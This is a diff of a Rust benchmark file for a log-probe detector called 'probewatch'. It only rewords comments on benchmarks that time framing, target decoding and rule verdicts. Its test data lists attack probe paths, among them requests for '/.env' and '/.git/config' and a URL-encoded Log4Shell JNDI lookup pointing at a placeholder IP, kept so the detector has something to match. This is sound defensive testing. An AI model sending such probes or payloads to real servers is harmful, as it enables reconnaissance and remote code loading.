@@ -1,7 +1,7 @@
-//! One benchmark a stage, over text made in memory: no file, no thread, the same bytes each time. Each first counts what
-//! the stage finds and compares it with what was put in, so that no number is of a stage that does nothing.
+//! One benchmark for each stage, on text generated in memory: no files, no threads, the same bytes each time. Each first
+//! checks the number of results against what was generated, so that no stage without work is measured.
 //!
-//! `cargo bench --bench stages` measures, `cargo test --benches` runs each once. Whole runs are for `compare.sh`.
+//! `cargo bench --bench stages` measures, `cargo test --benches` runs each once. `compare.sh` measures complete runs.
 
 #![allow(clippy::unwrap_used, reason = "a stage that fails has nothing to time")]
 
@@ -17,11 +17,11 @@ use probewatch::normalize::Normalizer;
 use probewatch::rules::{self, RuleChoice, RuleSet};
 use probewatch::tally::{LinePosition, Tally};
 
-/// Lines of the log; one in [`PROBES`] is a probe.
+/// Lines of the log; every `PROBES`th is a probe.
 const LINES: usize = 8192;
 const PROBES: usize = 8;
 
-/// Probes as they are sent, plain and disguised. Every one must match some rule.
+/// Probes as sent, plain and encoded. Each must match a rule.
 const PROBE_TARGETS: [&str; 12] = [
     "/.env",
     "/.git/config",
@@ -37,7 +37,7 @@ const PROBE_TARGETS: [&str; 12] = [
     "/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D",
 ];
 
-/// Ordinary pages; `#` becomes a number. None may match.
+/// Normal pages; `#` is replaced by a number. None may match.
 const PAGES: [&str; 8] = [
     "/",
     "/news/#/",
@@ -56,7 +56,7 @@ const AGENTS: [&str; 4] = [
     "-",
 ];
 
-/// Numbers that look random and are the same in every run (xorshift, Marsaglia 2003).
+/// A deterministic random number generator (xorshift, Marsaglia 2003).
 struct Numbers(u64);
 
 impl Numbers {
@@ -91,7 +91,7 @@ fn log() -> String {
         .concat()
 }
 
-/// Each record, and the headers behind it in one piece.
+/// Each record, and its headers in one piece.
 fn records(log: &str) -> Vec<(LogEntry<'_>, &[u8])> {
     let frames = log.lines().map(|line| Frame::locate(line.as_bytes(), None).unwrap());
     frames.map(|frame| (frame.record(None), frame.headers)).collect()
@@ -106,12 +106,12 @@ fn frames(group: &mut BenchmarkGroup<'_, WallTime>, log: &str) {
     group.throughput(Throughput::Bytes(log.len() as u64)).bench_function("frames", |b| b.iter(count));
 }
 
-/// Targets in which nothing is to be undone, and targets in which something is.
+/// Targets that need no decoding, and targets that do.
 fn targets(group: &mut BenchmarkGroup<'_, WallTime>) {
     let (disguised, plain): (Vec<&str>, Vec<&str>) = PROBE_TARGETS.iter().partition(|target| target.contains(['%', '*', '\\']));
     for (name, targets, expected) in [("plain", plain, 6), ("disguised", disguised, 6)] {
         let mut normalizer = Normalizer::default();
-        // A plain target is handed back as it is; a disguised one is longer than what it stands for.
+        // A plain target is returned unchanged; an encoded one becomes shorter.
         let mut changed = || targets.iter().filter(|t| normalizer.views(black_box(t.as_bytes())).target != t.as_bytes()).count();
         assert_eq!(targets.len(), expected);
         assert_eq!(changed() > 0, name == "disguised");
@@ -120,10 +120,10 @@ fn targets(group: &mut BenchmarkGroup<'_, WallTime>) {
     }
 }
 
-/// A scratch that is fresh has to work every verdict out; one that is used knows many of them.
+/// A new scratch computes every verdict; a used one has many in its cache.
 fn verdicts(group: &mut BenchmarkGroup<'_, WallTime>, rules: &RuleSet, log: &str) {
     let (matcher, records) = (Matcher::new(rules), records(log));
-    // As the line loop asks: first whether it is known.
+    // As in the line loop: the cache is asked first.
     let found = |record: &LogEntry<'_>, headers, scratch: &mut WorkerState| {
         let known = scratch.cached_verdict(record.request, headers, record.status);
         known.unwrap_or_else(|| matcher.verdict(record, headers, scratch)).rules != SymbolTables::EMPTY_RULES
